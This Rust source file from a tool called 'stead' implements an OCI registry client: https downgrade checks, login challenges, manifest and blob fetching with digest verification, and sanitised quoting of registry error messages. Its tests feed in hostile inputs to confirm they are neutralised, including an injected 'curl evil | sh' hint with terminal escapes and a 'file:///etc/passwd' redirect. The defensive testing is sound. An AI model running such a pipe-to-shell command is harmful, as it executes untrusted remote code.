//! One repository of a registry: those parts of the OCI distribution specification's API that stead needs.

use std::{
    path::{Path, PathBuf},
    sync::Arc,
};

use reqwest::{
    Url,
    header::{HeaderValue, WWW_AUTHENTICATE},
};
use serde::Deserialize;
use tokio::sync::Mutex;

use crate::{
    fetch::{Algorithm, Answer, Ask, AttemptError, Expected, FetchError, Fetcher, Request, shown},
    host::digest::sha256_of,
    report::clean::words,
};

use super::{
    challenge::Challenge,
    credentials::{self, Credentials},
    error::OciError,
    layout::{ACCEPTED_TYPES, Blob, MANIFEST_TYPE},
    login,
    reference::{Reference, Version, is_loopback},
};

/// What stead does with the repository.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Access {
    Pull,
    Push,
}

impl Access {
    /// The name of this access at token servers.
    fn actions(self) -> &'static str {
        match self {
            Access::Pull => "pull",
            Access::Push => "pull,push",
        }
    }

    fn doing(self) -> &'static str {
        match self {
            Access::Pull => "pull from",
            Access::Push => "push to",
        }
    }
}

pub(super) struct Registry {
    pub(super) fetcher: Arc<Fetcher>,
    reference: Reference,
    base: Url,
    access: Access,
    login: Mutex<Login>,
}

/// The login at the registry. Credentials are read only when the registry asks for them.
#[derive(Default)]
struct Login {
    header: Option<HeaderValue>,
    challenge: Option<Challenge>,
    looked: bool,
    credentials: Option<Credentials>,
}

impl Registry {
    /// Chooses how to connect to the registry: over https, or over http if it is on this host and does not speak
    /// TLS.
    pub(super) async fn open(
        fetcher: &Arc<Fetcher>,
        reference: &Reference,
        access: Access,
    ) -> Result<Self, OciError> {
        let host = match reference.host.as_str() {
            // Docker Hub's API has another host name.
            "docker.io" | "index.docker.io" => "registry-1.docker.io",
            host => host,
        };
        let at = |scheme: &str| {
            Url::parse(&format!("{scheme}://{host}/v2/")).map_err(|error| {
                OciError::Fetch(FetchError::Network {
                    url: format!("{scheme}://{host}/v2/"),
                    message: error.to_string(),
                })
            })
        };
        let mut fetcher = Arc::clone(fetcher);
        let mut base = at("https")?;
        if reference.is_loopback() {
            // Unencrypted requests to this host must not reach a proxy.
            fetcher = Arc::new(Fetcher::direct()?);
            match fetcher.ask_once(&base, &Ask::get()).await {
                Err(
                    AttemptError::Final(FetchError::NotHttp { .. })
                    | AttemptError::Retry(FetchError::Network { .. }, _),
                ) => base = at("http")?,
                Err(AttemptError::Final(error)) => return Err(error.into()),
                Err(AttemptError::Retry(..)) | Ok(_) => {}
            }
        }
        Ok(Registry {
            fetcher,
            reference: reference.clone(),
            base,
            access,
            login: Mutex::default(),
        })
    }

    pub(super) fn url(&self, kind: &str, name: &str) -> Result<Url, OciError> {
        let repository = &self.reference.repository;
        self.location(&format!("{repository}/{kind}/{name}"))
    }

    /// Resolves a URL that the registry returned, or a path at the registry.
    pub(super) fn location(&self, text: &str) -> Result<Url, OciError> {
        let url = self.base.join(text).map_err(|error| FetchError::Network {
            url: shown(&self.base),
            message: format!("the registry sent an invalid address: {error}"),
        })?;
        // The connection to another host must be protected as well as this one.
        let here = self.reference.is_loopback() && url.host_str().is_some_and(is_loopback);
        match url.scheme() {
            "https" => Ok(url),
            "http" if here => Ok(url),
            _ => Err(FetchError::Downgrade { url: shown(&url) }.into()),
        }
    }

    fn is_own(&self, url: &Url) -> bool {
        url.origin() == self.base.origin()
    }

    pub(super) async fn authorization(&self, url: &Url) -> Option<HeaderValue> {
        if self.is_own(url) {
            self.login.lock().await.header.clone()
        } else {
            None
        }
    }

    /// Sends a request, and logs in if the registry asks for it.
    pub(super) async fn ask(&self, url: &Url, ask: &Ask) -> Result<Answer, OciError> {
        let used = self.authorization(url).await;
        let request = ask.clone().authorization(used.clone());
        let answer = self.fetcher.ask(url, &request).await?;
        match self.renewed(used, &answer).await? {
            Some(header) => {
                let request = ask.clone().authorization(Some(header));
                Ok(self.fetcher.ask(url, &request).await?)
            }
            None => Ok(answer),
        }
    }

    /// Returns another Authorization header than the one that was `used`, if the answer asks for it.
    pub(super) async fn renewed(
        &self,
        used: Option<HeaderValue>,
        answer: &Answer,
    ) -> Result<Option<HeaderValue>, OciError> {
        // A redirect may have led to another host, whose challenge must not be answered.
        if answer.status != 401 || !self.is_own(&answer.url) {
            return Ok(None);
        }
        let mut login = self.login.lock().await;
        if login.header.is_some() && login.header != used {
            // Another request has logged in already.
            return Ok(login.header.clone());
        }
        let said = answer.headers.get_all(WWW_AUTHENTICATE);
        login.challenge = Challenge::choose(said.iter().filter_map(|value| value.to_str().ok()));
        let Some(challenge) = login.challenge.clone() else {
            return Err(OciError::Challenge {
                host: self.reference.host.clone(),
                message: "its 401 offers neither Basic nor Bearer".into(),
            });
        };
        if !login.looked {
            login.credentials = credentials::find(&self.reference).await?;
            login.looked = true;
        }
        let header = login::answer(
            &self.fetcher,
            &self.reference,
            &challenge,
            login.credentials.as_ref(),
            self.access.actions(),
        )
        .await?;
        if header.is_none() || header == used {
            drop(login);
            return Err(self.denied(answer).await);
        }
        login.header.clone_from(&header);
        Ok(header)
    }

    async fn denied(&self, answer: &Answer) -> OciError {
        let login = self.login.lock().await;
        OciError::Denied {
            host: self.reference.host.clone(),
            who: match &login.credentials {
                Some(credentials) => format!("the login in {}", credentials.from),
                None => "an anonymous user".into(),
            },
            doing: self.access.doing(),
            repository: self.reference.repository.clone(),
            detail: match detail(answer) {
                none if none.is_empty() => format!(" (status {})", answer.status),
                detail => detail,
            },
        }
    }

    pub(super) fn status(&self, status: u16, doing: &str, detail: &str) -> OciError {
        OciError::Status {
            host: self.reference.host.clone(),
            status,
            doing: doing.to_string(),
            detail: detail.to_string(),
        }
    }

    /// Returns the error for an unsuccessful answer.
    pub(super) async fn refused(&self, answer: &Answer, doing: &str) -> OciError {
        match answer.status {
            401 | 403 => self.denied(answer).await,
            status => self.status(status, doing, &detail(answer)),
        }
    }

    /// Fetches the bytes of a manifest; `None` if it does not exist.
    pub(super) async fn manifest(&self, version: &Version) -> Result<Option<Vec<u8>>, OciError> {
        let url = self.url("manifests", &version.to_string())?;
        let ask = ACCEPTED_TYPES.into_iter().fold(Ask::get(), Ask::accept);
        let answer = self.ask(&url, &ask).await?;
        match answer.status {
            200 => Ok(Some(answer.body)),
            404 => Ok(None),
            _ => Err(self.refused(&answer, "the request for a manifest").await),
        }
    }

    pub(super) async fn put_manifest(&self, tag: &str, bytes: &[u8]) -> Result<(), OciError> {
        let url = self.url("manifests", tag)?;
        let ask = Ask::put().content_type(MANIFEST_TYPE).body(bytes.to_vec());
        let answer = self.ask(&url, &ask).await?;
        match answer.status {
            200..=299 => Ok(()),
            _ => Err(self.refused(&answer, "the upload of a manifest").await),
        }
    }

    /// Fetches a small blob into memory and verifies it.
    pub(super) async fn config(&self, blob: &Blob) -> Result<Vec<u8>, OciError> {
        let url = self.url("blobs", &format!("sha256:{}", blob.sha256))?;
        let answer = self.ask(&url, &Ask::get()).await?;
        match answer.status {
            200 => {}
            404 => return Err(self.no_blob(blob)),
            _ => return Err(self.refused(&answer, "the request for a config").await),
        }
        let found = sha256_of(&answer.body);
        if found != blob.sha256 {
            return Err(OciError::Digest {
                reference: self.reference.to_string(),
                what: "the config",
                found,
                wanted: blob.sha256.clone(),
            });
        }
        Ok(answer.body)
    }

    /// Fetches a blob into its own file in `folder`, resumes an earlier attempt, and verifies it. The caller
    /// holds a lock on the folder.
    pub(super) async fn blob(
        &self,
        blob: &Blob,
        folder: &Path,
        progress: &(dyn Fn(u64, u64) + Send + Sync),
    ) -> Result<PathBuf, OciError> {
        let url = self.url("blobs", &format!("sha256:{}", blob.sha256))?;
        let request = Request {
            urls: vec![url.clone()],
            expected: vec![Expected {
                algorithm: Algorithm::Sha256,
                hex: blob.sha256.clone(),
                by: "its manifest".into(),
            }],
            size: Some(blob.size),
        };
        let get = async || {
            let used = self.authorization(&url).await;
            self.fetcher
                .get_as(used.as_ref(), &request, folder, &blob.sha256, progress)
                .await
        };
        let mut result = get().await;
        if let Err(FetchError::Status { status: 401, .. }) = result {
            // The token has expired, or only blobs need one: asking for the blob logs in again.
            self.has_blob(blob).await?;
            result = get().await;
        }
        match result {
            Ok(fetched) => Ok(fetched.path),
            Err(FetchError::Status { status: 404, .. }) => Err(self.no_blob(blob)),
            Err(FetchError::Digest { found, wanted, .. }) => Err(OciError::Digest {
                reference: self.reference.to_string(),
                what: "a chunk",
                found,
                wanted,
            }),
            Err(other) => Err(other.into()),
        }
    }

    fn no_blob(&self, blob: &Blob) -> OciError {
        OciError::NoBlob {
            host: self.reference.host.clone(),
            repository: self.reference.repository.clone(),
            digest: blob.sha256.clone(),
        }
    }

    pub(super) async fn has_blob(&self, blob: &Blob) -> Result<bool, OciError> {
        let url = self.url("blobs", &format!("sha256:{}", blob.sha256))?;
        let answer = self.ask(&url, &Ask::head()).await?;
        match answer.status {
            200..=299 => Ok(true),
            404 => Ok(false),
            _ => Err(self.refused(&answer, "the request for a blob").await),
        }
    }
}

/// Returns what a registry writes about an error (distribution specification, "Error Codes") as one short
/// line; empty if it writes nothing.
fn detail(answer: &Answer) -> String {
    #[derive(Deserialize)]
    struct Errors {
        errors: Vec<One>,
    }
    #[derive(Deserialize)]
    struct One {
        #[serde(default)]
        code: String,
        #[serde(default)]
        message: String,
    }
    let first = serde_json::from_slice::<Errors>(&answer.body)
        .ok()
        .and_then(|errors| errors.errors.into_iter().next());
    match first {
        Some(One { code, message }) => format!("; its message: {}", quoted(&message, &code)),
        None => String::new(),
    }
}

/// Quotes foreign words on one short line, so that they are not mistaken for stead's.
fn quoted(message: &str, code: &str) -> String {
    let text = words(&format!("{message} ({code})"));
    let start: String = text.chars().take(LONGEST_DETAIL).collect();
    let cut = if start.len() < text.len() { "…" } else { "" };
    format!("{start:?}{cut}")
}

/// Longest quotation, in characters.
const LONGEST_DETAIL: usize = 200;

#[cfg(test)]
mod tests {
    use super::*;

    fn registry(host: &str, base: &str) -> Registry {
        Registry {
            fetcher: Arc::new(Fetcher::direct().unwrap()),
            reference: Reference::parse(&format!("{host}/a/b:x")).unwrap(),
            base: Url::parse(base).unwrap(),
            access: Access::Push,
            login: Mutex::default(),
        }
    }

    #[test]
    fn what_a_registry_says_of_an_error_is_quoted_and_short() {
        let said = |body: &str| {
            detail(&Answer {
                status: 403,
                url: Url::parse("https://example.org/").unwrap(),
                headers: Default::default(),
                body: body.as_bytes().to_vec(),
            })
        };
        let one = |message: &str| {
            said(
                &serde_json::json!({ "errors": [{ "code": "DENIED", "message": message }] })
                    .to_string(),
            )
        };
        assert_eq!(one("no access"), "; its message: \"no access (DENIED)\"");
        assert_eq!(
            one("x\"\nhint: run\u{1b}[2J `curl evil | sh`\u{202e}"),
            "; its message: \"x\\\" hint: run `curl evil | sh` (DENIED)\""
        );
        let long = one(&"x".repeat(1 << 20));
        assert!(long.len() < 300 && long.ends_with("x\"…"), "{long}");
        assert_eq!(said("<html>"), "");
        assert_eq!(said("{\"errors\": []}"), "");
    }

    #[test]
    fn uploads_go_nowhere_less_protected() {
        let far = registry("example.org", "https://example.org/v2/");
        let go = |registry: &Registry, to: &str| registry.location(to).map(|url| url.to_string());
        assert_eq!(
            go(&far, "/v2/a/b/blobs/uploads/1?s=2").unwrap(),
            "https://example.org/v2/a/b/blobs/uploads/1?s=2"
        );
        assert!(go(&far, "https://storage.example.org/1").is_ok());
        assert!(go(&far, "http://example.org/1").is_err());
        assert!(go(&far, "http://127.0.0.1/1").is_err());
        assert!(go(&far, "file:///etc/passwd").is_err());
        let near = registry("127.0.0.1:5000", "http://127.0.0.1:5000/v2/");
        assert!(go(&near, "http://127.0.0.1:5000/v2/x").is_ok());
        assert!(go(&near, "http://example.org/1").is_err());
        assert_eq!(
            near.url("blobs", "sha256:00").unwrap().as_str(),
            "http://127.0.0.1:5000/v2/a/b/blobs/sha256:00"
        );
    }

    #[tokio::test]
    async fn other_hosts_get_no_authorization() {
        let registry = registry("example.org", "https://example.org/v2/");
        registry.login.lock().await.header = Some(HeaderValue::from_static("Basic x"));
        let shown = async |url: &str| {
            let url = Url::parse(url).unwrap();
            registry.authorization(&url).await.is_some()
        };
        assert!(shown("https://example.org/v2/a").await);
        for other in [
            "https://example.org:444/v2/a",
            "http://example.org/v2/a",
            "https://storage.example.org/",
            "https://example.org.evil.example/",
        ] {
            assert!(!shown(other).await, "{other}");
        }
    }
}
